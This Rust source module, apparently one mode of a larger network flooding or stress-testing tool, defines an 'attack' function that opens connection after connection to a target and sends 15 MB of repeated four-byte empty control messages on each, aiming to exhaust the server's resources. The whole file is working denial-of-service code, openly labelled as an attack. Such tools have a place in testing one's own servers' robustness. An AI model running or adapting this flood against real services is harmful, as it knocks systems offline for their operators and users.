//! Empty control messages by the megabyte: each has four bytes and no content.

use super::{Effort, Repeated, Target, Then, one_after_the_other};

/// Bytes on one connection before another is begun.
const BYTES: u64 = 15_000_000;

pub(super) fn attack(target: &Target) -> anyhow::Result<Effort> {
    one_after_the_other(target, || {
        let mut messages = Repeated::new(&[0; 4]);
        let mut sent = 0;
        move |stranger| {
            let taken = messages.write(stranger);
            sent += taken;
            (if sent < BYTES { Then::GoOn } else { Then::Leave }, taken)
        }
    })
}
